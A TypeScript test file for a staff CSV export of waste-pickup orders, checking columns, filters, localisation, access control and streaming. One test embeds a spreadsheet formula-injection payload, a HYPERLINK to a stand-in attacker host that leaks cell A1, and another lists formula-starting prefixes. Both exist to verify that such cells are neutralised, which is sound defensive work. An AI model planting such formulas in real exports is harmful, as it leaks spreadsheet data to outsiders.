import { Readable } from 'node:stream'
import { finished } from 'node:stream/promises'
import papaparse from 'papaparse'
import { describe, expect, test, vi } from 'vitest'
import { changed } from '#contract/orders/place-order.cases.ts'
import type { MembershipIds, StaffActor } from '#server/platform/http/actor.ts'
import { writeCsvFile } from '#server/platform/http/csv-file.ts'
import {
  anOrder,
  buildOrderApp,
  FRIDGE,
  makeClient,
  makeDispatcher,
  MONITOR,
  PALLET,
} from '#server/testing/test-orders.ts'
import { exportOrders } from './export-orders.ts'

const shop = await buildOrderApp()
const { clock, database } = shop
const { connection } = database
clock.set('2026-11-03T23:30:00Z')
const ewa = await makeDispatcher(shop)
const COLUMNS =
  'numer;złożone;status;data odbioru;firma;NIP;miejsce;ulica;kod pocztowy;miejscowość;kontakt;telefon;sprzęt;proponowany kod odpadu;ilość;jednostka;kg;komentarz;zważone kg (cały kod)'

const exported = async (query = '', { browser } = ewa) => {
  // A download link carries no anti-forgery token.
  const answer = await browser.call('GET', `/staff/orders.csv${query}`, {
    headers: { 'x-xsrf-token': undefined },
  })
  expect(answer.statusCode, answer.body).toBe(200)
  return answer
}
const placed = async (set: Record<string, unknown> = {}): Promise<string> => {
  const answer = await shop.placeOrder(changed(anOrder(), set))
  expect(answer.statusCode, answer.body).toBe(201)
  return answer.json<{ order: { uuid: string } }>().order.uuid
}
const entry = (uuid: string, value: number) => ({
  recyclingItem: { uuid, value, unit: 'pieces' },
  packageTypes: [{ uuid: PALLET, name: null, value: 1, unit: 'pieces' }],
})

describe('the exported list', () => {
  test('STAFF-19 D-H2.8 is a file for spreadsheets: a row for each piece of equipment, with a comma before decimals', async () => {
    const uuid = await placed({
      customerCompanyName: 'Huta; "Szkła"',
      orderData: [entry(FRIDGE, 3), entry(MONITOR, 1)],
      comment: 'Winda\nna klucz',
      'customerCompanyBranch.name': 'Hala Arkusz',
    })
    const order = await ewa.read(uuid)
    const { headers, body } = await exported('?search=arkusz')
    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(headers['content-disposition']).toBe('attachment; filename="orders-2026-11-04.csv"')
    expect(body.startsWith(`\uFEFF${COLUMNS}\r\n`)).toBe(true)
    expect(body.endsWith('\r\n')).toBe(true)
    const { data, errors } = papaparse.parse<string[]>(body.slice(1).trimEnd(), {
      delimiter: ';',
      newline: '\r\n',
    })
    expect(errors).toEqual([])
    const [first, second] = order.orderData.map(({ recyclingItem }) => recyclingItem)
    const shared = [
      order.orderNumber,
      '2026-11-04 00:30',
      'Nowe',
      '',
      'Huta; "Szkła"',
      order.company.nip,
      'Hala Arkusz',
      'ul. Ciemna 3',
      '60-102',
      'Poznań',
      order.customerCompanyBranch.contact,
      order.customerCompanyBranch.phone,
    ]
    const kg = (weight: number) => String(weight).replace('.', ',')
    expect(data.slice(1)).toEqual([
      [
        ...shared,
        first?.name,
        first?.code,
        '3',
        'szt.',
        kg(order.totalWeight - (second?.weightPerPiece ?? 0)),
        'Winda\nna klucz',
        '',
      ],
      [
        ...shared,
        second?.name,
        second?.code,
        '1',
        'szt.',
        kg(second?.weightPerPiece ?? 0),
        'Winda\nna klucz',
        '',
      ],
    ])
  })

  test('STAFF-19 CASE-53 what an anonymous visitor types is no formula in it, and a phone stays readable', async () => {
    const comment = '=HYPERLINK("https://zle.example/?"&A1;"faktura\nza sierpień")'
    await placed({
      comment,
      'customerCompanyBranch.phone': '+48600100200',
      'customerCompanyBranch.city': 'Śrem',
    })
    const { body } = await exported('?search=srem')
    const { data } = papaparse.parse<string[]>(body.slice(1).trimEnd(), { delimiter: ';', newline: '\r\n' })
    expect(data[1]?.at(-2)).toBe(`'${comment}`)
    expect(data[1]?.[11]).toBe('\u00a0+48600100200')
  })

  test.each(['=1+1', '+48 600', '-2', '@SUM(A1)', '\tx', '\rx', '=1\n+1'])(
    'STAFF-19 a cell that begins like %j is no formula',
    async (typed) => {
      const uuid = await placed()
      await database.executeSql('update orders set company_name = $1, branch_name = $2 where id = $3', [
        typed,
        `Wzór ${uuid}`,
        uuid,
      ])
      const { body } = await exported(`?search=${uuid}`)
      const { data } = papaparse.parse<string[]>(body.slice(1).trimEnd(), { delimiter: ';', newline: '\r\n' })
      expect(data[1]?.[4]).toBe(`'${typed}`)
    },
  )

  test('STAFF-19 has the filters and the order of the list', async () => {
    const [a, b] = [
      await placed({ 'customerCompanyBranch.city': 'Gniezno' }),
      await placed({ 'customerCompanyBranch.city': 'Gniezno' }),
    ]
    await placed()
    await database.executeSql(
      `update orders set status = 'PLANNED', suggested_date = '2026-12-01' where id = $1`,
      [a],
    )
    const numbers = async (query: string) =>
      papaparse
        .parse<string[]>((await exported(query)).body.slice(1).trimEnd(), { delimiter: ';' })
        .data.slice(1)
        .map(([number]) => number)
    const [first, second] = [(await ewa.read(a)).orderNumber, (await ewa.read(b)).orderNumber]
    expect(await numbers('?search=gniezno&sort=suggestedDate')).toEqual([first, second])
    expect(await numbers('?search=gniezno&status=PLANNED')).toEqual([first])
    expect(await numbers('?search=nieobecne')).toEqual([])
    expect((await ewa.browser.call('GET', '/staff/orders.csv?status=OPEN')).statusCode).toBe(400)
  })

  test('STAFF-19 STAFF-60 is for the staff alone, in their language, and written down', async () => {
    const iza = await makeDispatcher(shop, { locale: 'en' })
    const { body } = await exported('?search=nieobecne', iza)
    expect(body).toBe(
      '\uFEFFnumber;placed;status;pickup date;company;NIP;place;street;postal code;city;contact;phone;equipment;proposed waste code;quantity;unit;kg;comment;weighed kg (whole waste code)\r\n',
    )
    const events = await database.connection
      .selectFrom('security_events')
      .select(['kind', 'actor_id'])
      .where('actor_id', '=', iza.person.id)
      .where('kind', '!=', 'login')
      .execute()
    expect(events).toEqual([{ kind: 'export', actor_id: iza.person.id }])
    const client = await makeClient(shop)
    expect((await client.browser.call('GET', '/staff/orders.csv')).statusCode).toBe(404)
    expect((await shop.app.inject('/v1/staff/orders.csv')).statusCode).toBe(401)
  })

  test('STAFF-19 of many rows comes whole, and gives its connection back', async () => {
    const uuid = await placed({ 'customerCompanyBranch.city': 'Wolsztyn' })
    await database.executeSql(
      `insert into order_entries
       select gen_random_uuid(), order_id, n, recycling_item_id, name, description, item_group, examples, waste_code, grams_per_piece, grams_per_cubic_meter, quantity, unit, weight_grams, weight_is_lower_bound
       from order_entries, generate_series(100, 3598) n where order_id = $1`,
      [uuid],
    )
    for (let at = 0; at < 15; at += 1) {
      const { body } = await exported('?search=wolsztyn')
      expect(body.split('\r\n')).toHaveLength(3500 + 2)
    }
  })

  test('STAFF-19 two are written at a time: a third is asked to come again, and is written when one has ended', async () => {
    // Retries, because earlier exports end for the reader a moment before their slot is free.
    const slowly = () =>
      vi.waitFor(() => writeCsvFile(async () => ({ name: 'x.csv', content: new Readable({ read() {} }) })))
    const [first, second] = [await slowly(), await slowly()]
    const third = await ewa.browser.call('GET', '/staff/orders.csv')
    expect(third.json()).toMatchObject({ status: 503, code: 'EXPORT.BUSY' })
    expect(third.headers['retry-after']).toBe('30')
    // The reader cancelled the download.
    first.content.destroy()
    await expect.poll(async () => (await ewa.browser.call('GET', '/staff/orders.csv')).statusCode).toBe(200)
    second.content.push(null)
    second.content.resume()
    await finished(second.content)
    const failing = () => writeCsvFile(() => Promise.reject(new Error('no database'))).catch(String)
    for (let at = 0; at < 3; at += 1) await expect.poll(failing).toBe('Error: no database')
  })

  test('STATUS-1 STAFF-19 a status has the words of the screens, in every language', async () => {
    const uuid = await placed({ 'customerCompanyBranch.city': 'Pniewy' })
    for (const [locale, word] of [
      ['pl', 'Anulowane przez klienta'],
      ['en', 'Cancelled by the client'],
      ['uk', 'Скасовано клієнтом'],
    ] as const) {
      const reader = await makeDispatcher(shop, { locale })
      await connection
        .updateTable('orders')
        .set({ status: 'CANCELLEDBYCLIENTREQUEST' })
        .where('id', '=', uuid)
        .execute()
      expect((await exported('?search=pniewy', reader)).body.split(';')).toContain(word)
    }
  })

  test('STAFF-19 a reader who goes away leaves no connection behind', async () => {
    for (let at = 0; at < 3; at += 1) await placed({ 'customerCompanyBranch.city': 'Rawicz' })
    const filters = { sort: 'createdDate', order: 'desc', search: 'rawicz' } as const
    const { id: userId, email, role, name, surname, phone, locale } = ewa.person
    const actor = {
      userId,
      email,
      role,
      name,
      surname,
      phone,
      locale,
      isAdministrator: false,
      hasSecondFactor: false,
      companyIds: [] as readonly string[] as MembershipIds,
    }
    const origin = { requestId: 'test', address: '127.0.0.1' }
    // More than the number of connections in the pool.
    for (let at = 0; at < 60; at += 1) {
      const { content } = await exportOrders(shop, { actor: actor as unknown as StaffActor, origin }, filters)
      let parts = 0
      for await (const part of content) {
        expect(String(part)).not.toBe('')
        parts += 1
        if (parts === 2) break
      }
    }
    expect((await exported('?search=rawicz')).body.split('\r\n')).toHaveLength(3 + 2)
  })
})
